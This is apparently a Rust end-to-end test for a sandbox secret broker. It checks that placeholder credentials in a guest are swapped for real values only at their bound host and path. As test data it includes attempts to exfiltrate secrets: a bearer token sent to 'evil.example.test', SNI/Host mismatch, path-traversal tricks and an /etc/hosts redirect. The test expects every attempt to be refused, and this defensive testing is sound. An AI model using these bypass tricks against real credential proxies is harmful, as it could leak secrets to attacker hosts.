//! The secret broker with a real guest: a test "internet" (namespaces of this test, RFC 5737
//! addresses only) holds HTTPS origins for `api.example.test`, `evil.example.test` and
//! `other.example.test` under their own test root, which the daemon's brokers are told to trust
//! (`--secrets-upstream-roots`), and an authoritative DNS server the sandboxes' DNS filters ask
//! (`--net-dns-upstream`). The guest's own curl, with placeholders in its environment, reaches
//! `api` with the real values at their bindings only, never sees a value in any response, is
//! refused everywhere else, and is spliced (not decrypted) to a host no secret is bound to.
//! Afterwards the values are nowhere in the guest.

use std::collections::HashMap;
use std::sync::{Arc, Mutex};

use hutch_api::{client::Client, CreateSandbox, ExecBody, SetSecretBody};
use hutch_net::testbed::{World, INET, INET2};
use hutch_testkit::origin::{self, Seen, SeenLog};
use hutch_types::{BrokerDecision, NetworkPolicy, SandboxSpec, SecretBinding, PLACEHOLDER_PREFIX};

use crate::*;

/// The origin no secret is bound to.
const OTHER: &str = "203.0.113.30";
/// The test internet's DNS server (on the internet side of the host namespace's uplink).
const DNS: &str = "198.51.100.2:53";

fn binding(host: &str, at: &str, path: Option<&str>) -> SecretBinding {
    SecretBinding {
        host: host.into(),
        port: 443,
        path: path.map(String::from),
        methods: vec![],
        at: at.parse().expect("location"),
        fetch_only: false,
    }
}

/// The secrets of this case: (name, guest variable, binding), each with a fresh value.
fn secrets() -> Vec<(&'static str, &'static str, SecretBinding, String)> {
    let v = |n: &str| format!("real-{n}-{:016x}", crate::secrets::rand_u64());
    vec![
        (
            "e2e-key",
            "E2E_KEY",
            binding("api.example.test", "header:x-api-key", None),
            v("key"),
        ),
        (
            "e2e-token",
            "E2E_TOKEN",
            binding("api.example.test", "bearer", Some("/v1/**")),
            v("token"),
        ),
        (
            "e2e-git",
            "E2E_GIT",
            SecretBinding {
                fetch_only: true,
                ..binding(
                    "api.example.test",
                    "basic-password",
                    Some("/org/repo.git/**"),
                )
            },
            v("git"),
        ),
        (
            "e2e-query",
            "E2E_QUERY",
            binding("api.example.test", "query:key", None),
            v("query"),
        ),
        (
            "e2e-evil",
            "E2E_EVIL",
            binding("evil.example.test", "header:x-evil-key", None),
            v("evil"),
        ),
    ]
}

/// One curl in the guest: `script` is appended to `curl -sS --max-time 20` and runs under
/// `sh -c` (so `$E2E_*` expand to the placeholders). Returns (curl's exit code, HTTP status,
/// body, stderr).
async fn curl_in(c: &Client, id: &str, script: &str) -> Result<(i32, u16, String, String)> {
    let argv = vec![
        "sh".into(),
        "-c".into(),
        format!("curl -sS --max-time 20 -w '\\n%{{http_code}}' {script}"),
    ];
    let out = c
        .exec(
            id,
            &ExecBody {
                argv,
                ..Default::default()
            },
        )
        .await
        .map_err(|e| format!("exec curl {script}: {e}"))?;
    let (body, status) = out.stdout.rsplit_once('\n').unwrap_or(("", &out.stdout));
    Ok((
        out.exit_code.unwrap_or(-1),
        status.trim().parse().unwrap_or(0),
        body.to_string(),
        out.stderr,
    ))
}

fn b64(s: &str) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(s)
}

/// The placeholder of `secret` in the guest's `env` output.
fn placeholder(env: &str, secret: &str) -> Result<String> {
    let var = secrets()
        .into_iter()
        .find(|s| s.0 == secret)
        .map(|s| s.1)
        .ok_or("no such secret")?;
    env.lines()
        .find_map(|l| l.strip_prefix(var)?.strip_prefix('='))
        .filter(|p| p.starts_with(PLACEHOLDER_PREFIX))
        .map(String::from)
        .ok_or_else(|| format!("no placeholder for {var} in {env}").into())
}

/// A bare repository at `bare` holding one commit (README: "seeded").
fn seed_repository(bare: &std::path::Path) -> Result {
    let work = bare.with_extension("work");
    std::fs::create_dir_all(&work)?;
    std::fs::write(work.join("README"), "seeded\n")?;
    let git = |dir: &std::path::Path, args: &[&str]| -> Result {
        let out = std::process::Command::new("git")
            .args([
                "-c",
                "user.name=t",
                "-c",
                "user.email=t@example.test",
                "-c",
                "init.defaultBranch=main",
            ])
            .arg("-C")
            .arg(dir)
            .args(args)
            .output()?;
        check(
            out.status.success(),
            format!("git {args:?}: {}", String::from_utf8_lossy(&out.stderr)),
        )
    };
    git(&work, &["init", "-q"])?;
    git(&work, &["add", "README"])?;
    git(&work, &["commit", "-qm", "seed"])?;
    git(
        &work,
        &["clone", "-q", "--bare", ".", &bare.display().to_string()],
    )?;
    Ok(())
}

/// What the origins received since `from`.
fn seen_since(seen: &SeenLog, from: usize) -> Vec<Seen> {
    seen.lock().unwrap()[from..].to_vec()
}

pub fn a_real_guest_reaches_bound_hosts_only_through_the_broker() -> Result {
    let world = World::bare("sec");
    let ip = |rest: &str| {
        let mut cmd = std::process::Command::new("ip");
        cmd.args(["-n", &world.inet]).args(rest.split_whitespace());
        cmd.output()
    };
    check(
        ip(&format!("addr add {OTHER}/32 dev lo"))?.status.success(),
        "add the third origin's address",
    )?;
    let dir = tempfile::tempdir()?;
    let (tls, _, root) = origin::origin_tls(dir.path());
    let secrets = secrets();
    let git = Arc::new(origin::GitServer {
        root: dir.path().join("git"),
        password: secrets.iter().find(|s| s.0 == "e2e-git").unwrap().3.clone(),
    });
    seed_repository(&git.root.join("org/repo.git"))?;
    let seen: SeenLog = Arc::new(Mutex::new(Vec::new()));
    {
        let (inet, seen) = (world.inet.clone(), seen.clone());
        on_rt(async move {
            let tls = Arc::new(tls);
            for addr in [INET, INET2, OTHER] {
                let l = origin::listen_in(&inet, &format!("{addr}:443"));
                let git = (addr == INET).then(|| git.clone());
                origin::serve_origins_with_git(l, Some(tls.clone()), seen.clone(), git);
            }
            let names: HashMap<String, std::net::Ipv4Addr> = [
                ("api.example.test", INET),
                ("evil.example.test", INET2),
                ("other.example.test", OTHER),
            ]
            .into_iter()
            .map(|(n, a)| (n.to_string(), a.parse().unwrap()))
            .collect();
            hutch_testkit::serve_dns(&inet, DNS.parse().unwrap(), names);
        });
    }
    let mut daemon = Daemon::start_with(
        common::private_home(),
        &[
            "--net-host-netns",
            &world.host,
            "--net-dns-upstream",
            DNS,
            "--secrets-upstream-roots",
            &root,
        ],
    );
    let home = daemon.home.path().to_path_buf();
    let home_of_case = home.clone();
    let client = daemon.client();
    let result = on_rt(async move {
        let ran = run_case(&client, home_of_case, secrets, seen).await;
        // Whatever happened, nothing of this case may outlive it.
        let destroyed = destroy_all(&client).await;
        let id = ran?;
        destroyed?;
        Ok::<_, Failed>(id)
    });
    sigterm(&mut daemon);
    let leaks = common::leaks(&home);
    let id = result?;
    check(leaks.is_empty(), format!("left behind: {leaks:?}"))?;
    let commits = std::process::Command::new("git")
        .arg("-C")
        .arg(dir.path().join("git/org/repo.git"))
        .args(["rev-list", "--count", "--all"])
        .output()?;
    check(
        String::from_utf8_lossy(&commits.stdout).trim() == "1",
        "a push reached the repository",
    )?;
    let namespaces = std::process::Command::new("ip")
        .args(["netns", "list"])
        .output()?;
    check(
        !String::from_utf8_lossy(&namespaces.stdout).contains(&format!("hutch-{id}")),
        "the sandbox's namespace is left",
    )
}

async fn run_case(
    c: &Client,
    home: std::path::PathBuf,
    secrets: Vec<(&'static str, &'static str, SecretBinding, String)>,
    seen: SeenLog,
) -> Result<String> {
    for (name, env, b, value) in &secrets {
        let body = SetSecretBody {
            value: value.clone(),
            env: Some(env.to_string()),
            bindings: Some(vec![b.clone()]),
            labels: Default::default(),
            ssh_allowed_host_keys: None,
        };
        c.set_secret(name, &body).await?;
    }
    let value = |name: &str| secrets.iter().find(|s| s.0 == name).unwrap().3.clone();
    let req = CreateSandbox {
        spec: SandboxSpec {
            memory_mib: 256,
            disk_mib: 256,
            network: NetworkPolicy::Open,
            secrets: secrets.iter().map(|s| s.0.to_string()).collect(),
            ..Default::default()
        },
        idempotency_key: None,
    };
    let id = c.create(&req).await?.id;
    let ids = id.clone();
    let id = id.as_str();
    let all_values: Vec<String> = secrets.iter().map(|s| s.3.clone()).collect();
    // Each value raw, and as git's Basic credentials carry it.
    let forbidden: Vec<String> = all_values
        .iter()
        .flat_map(|v| [v.clone(), b64(&format!("x-access-token:{v}"))])
        .collect();
    let clean = |what: &str, text: &str| -> Result {
        for v in &forbidden {
            check(
                !text.contains(v.as_str()),
                format!("{what}: the guest saw a real value: {text}"),
            )?;
        }
        Ok(())
    };

    let env = sh(c, id, "env").await?;
    // Each location: the origin receives the real value, the guest only its placeholder.
    let cases = [
        (
            "header",
            "-H \"x-api-key: $E2E_KEY\" https://api.example.test/v1/echo",
            "x-api-key: ",
            "e2e-key",
        ),
        (
            "bearer",
            "-H \"Authorization: Bearer $E2E_TOKEN\" https://api.example.test/v1/echo",
            "authorization: Bearer ",
            "e2e-token",
        ),
        (
            "basic",
            "-u \"x-access-token:$E2E_GIT\" 'https://api.example.test/org/repo.git/info/refs?service=git-upload-pack'",
            "authorization: Basic ",
            "e2e-git",
        ),
        (
            "query",
            "\"https://api.example.test/v1/q?key=$E2E_QUERY\"",
            "GET /v1/q?key=",
            "e2e-query",
        ),
    ];
    for (what, script, marker, secret) in cases {
        let from = seen.lock().unwrap().len();
        let (rc, status, body, err) = curl_in(c, id, script).await?;
        check(
            rc == 0 && status == 200,
            format!("{what}: curl {rc} status {status}: {err}{body}"),
        )?;
        clean(what, &body)?;
        let ph = placeholder(&env, secret)?;
        let (expect, shown) = if what == "basic" {
            (
                b64(&format!("x-access-token:{}", value(secret))),
                b64(&format!("x-access-token:{ph}")),
            )
        } else {
            (value(secret), ph)
        };
        // The git server behind the basic binding answers only the real password.
        let answered = if what == "basic" {
            body.contains("# service=git-upload-pack")
        } else {
            body.contains(&format!("{marker}{shown}"))
        };
        check(
            answered,
            format!("{what}: the guest's echo lost the placeholder: {body}"),
        )?;
        let got = seen_since(&seen, from);
        check(
            got.len() == 1 && got[0].all().contains(&format!("{marker}{expect}")),
            format!("{what}: the origin did not get the value: {got:?}"),
        )?;
    }

    // A reflecting endpoint quotes the key in its body and a header: scrubbed.
    let from = seen.lock().unwrap().len();
    let (_, status, body, _) = curl_in(
        c,
        id,
        "-D - -H \"x-api-key: $E2E_KEY\" https://api.example.test/v1/reflect",
    )
    .await?;
    check(status == 401, format!("reflect: {status} {body}"))?;
    clean("reflect", &body)?;
    check(
        seen_since(&seen, from)
            .iter()
            .any(|s| s.headers.contains(&value("e2e-key"))),
        "reflect: the origin did not get the value",
    )?;

    // Refusals: none of them lets a value out.
    let mut refusals = vec![
        (
            "to evil",
            "-H \"Authorization: Bearer $E2E_TOKEN\" https://evil.example.test/v1/echo",
            403,
        ),
        (
            "SNI != Host",
            "-H 'Host: evil.example.test' -H \"x-api-key: $E2E_KEY\" https://api.example.test/v1/echo",
            421,
        ),
    ];
    // Path tricks against the token's /v1/** binding.
    let tricks: Vec<String> = [
        "/v1/../admin",
        "/v1/%2e%2e/admin",
        "/v1;x/../../admin",
        "//v1/..//admin",
        "/v10/x",
    ]
    .iter()
    .map(|p| {
        format!(
            "--path-as-is -H \"Authorization: Bearer $E2E_TOKEN\" 'https://api.example.test{p}'"
        )
    })
    .collect();
    refusals.extend(tricks.iter().map(|t| ("path trick", t.as_str(), 403)));
    for (what, script, want) in refusals {
        let from = seen.lock().unwrap().len();
        let (_, status, body, err) = curl_in(c, id, script).await?;
        check(status == want, format!("{what}: {status} {err}{body}"))?;
        clean(what, &body)?;
        for s in seen_since(&seen, from) {
            clean(&format!("{what} (origin)"), &s.all())?;
        }
    }
    let log = c.secret_log(id).await?;
    check(
        log.iter().any(|e| {
            e.decision == BrokerDecision::Violation
                && e.secret == "e2e-token"
                && e.host == "evil.example.test"
        }),
        format!("no violation recorded: {log:?}"),
    )?;

    // /etc/hosts sends api.example.test to evil's address: no value goes there.
    sh(
        c,
        id,
        &format!("cp /etc/hosts /etc/hosts.orig && echo '{INET2} api.example.test' >> /etc/hosts"),
    )
    .await?;
    let from = seen.lock().unwrap().len();
    let (_, status, body, _) = curl_in(
        c,
        id,
        "-H \"x-api-key: $E2E_KEY\" https://api.example.test/v1/echo",
    )
    .await?;
    sh(c, id, "mv /etc/hosts.orig /etc/hosts").await?;
    check(status == 403, format!("/etc/hosts: {status} {body}"))?;
    clean("/etc/hosts", &body)?;
    for s in seen_since(&seen, from) {
        clean("/etc/hosts (origin)", &s.all())?;
    }

    // A placeholder in User-Agent is never substituted.
    let from = seen.lock().unwrap().len();
    let (_, _, body, _) =
        curl_in(c, id, "-A \"$E2E_KEY\" https://api.example.test/v1/echo").await?;
    clean("user-agent", &body)?;
    for s in seen_since(&seen, from) {
        clean("user-agent (origin)", &s.all())?;
    }

    // An unbound host is spliced: the guest sees the origin's own certificate.
    let (_, _, _, verbose) = curl_in(c, id, "-kv https://other.example.test/").await?;
    check(
        verbose.contains("test internet root"),
        format!("other.example.test was not spliced: {verbose}"),
    )?;
    let (_, _, _, verbose) = curl_in(c, id, "-v https://api.example.test/v1/echo").await?;
    check(
        verbose.contains("Hutch sandbox"),
        format!("api.example.test was not terminated by the broker: {verbose}"),
    )?;

    // git through git-credential-hutch: the clone gets the placeholder from the helper, the
    // broker puts the value in (the server checks it), a push is refused (fetch-only binding).
    let cloned = sh(
        c,
        id,
        "cd /tmp && GIT_TERMINAL_PROMPT=0 git clone -q https://api.example.test/org/repo.git r 2>&1 && cat r/README",
    )
    .await?;
    check(cloned == "seeded", format!("git clone: {cloned}"))?;
    let from = seen.lock().unwrap().len();
    let push = c
        .exec(
            id,
            &ExecBody {
                argv: vec![
                    "sh".into(),
                    "-c".into(),
                    "cd /tmp/r && echo more > f && git add f && \
                     git -c user.name=g -c user.email=g@example.test commit -qm more && \
                     GIT_TERMINAL_PROMPT=0 git push -q origin HEAD"
                        .into(),
                ],
                ..Default::default()
            },
        )
        .await?;
    check(
        push.exit_code != Some(0),
        format!("a push went through a fetch-only binding: {}", push.stderr),
    )?;
    clean("git push", &push.stderr)?;
    for s in seen_since(&seen, from) {
        clean("git push (origin)", &s.all())?;
    }

    // The values are nowhere in the guest: env, every process's environ, its disk, console.
    let console = c.console(id).await?;
    clean("console", &String::from_utf8_lossy(&console))?;
    // The values come on stdin into unexported shell variables: in no argv, env or file.
    let search = ExecBody {
        argv: vec![
            "sh".into(),
            "-c".into(),
            "read -r a; read -r b; read -r c; read -r d; read -r e; \
             set -- -e \"$a\" -e \"$b\" -e \"$c\" -e \"$d\" -e \"$e\"; \
             env | grep -cF \"$@\"; \
             for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f; done 2>/dev/null | grep -cF \"$@\"; \
             grep -rlsF \"$@\" / --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev | wc -l"
                .into(),
        ],
        stdin: Some(all_values.iter().map(|v| format!("{v}\n")).collect()),
        ..Default::default()
    };
    let found = c.exec(id, &search).await?.stdout;
    check(
        found.split_whitespace().collect::<Vec<_>>() == ["0", "0", "0"],
        format!("a value was found in the guest: {found}"),
    )?;

    // `hutch secret log` lists what happened, never a value or a placeholder.
    let out = tokio::process::Command::from(hutch(&home))
        .args(["secret", "log", id])
        .output()
        .await?;
    let printed = String::from_utf8_lossy(&out.stdout).into_owned();
    eprintln!("hutch secret log {id}:\n{printed}");
    check(out.status.success(), "hutch secret log failed")?;
    clean("secret log", &printed)?;
    check(
        !printed.contains(PLACEHOLDER_PREFIX),
        "secret log prints a placeholder",
    )?;
    check(
        printed.contains("substituted") && printed.contains("violation"),
        format!("secret log: {printed}"),
    )?;
    c.destroy(id).await?;
    Ok(ids)
}
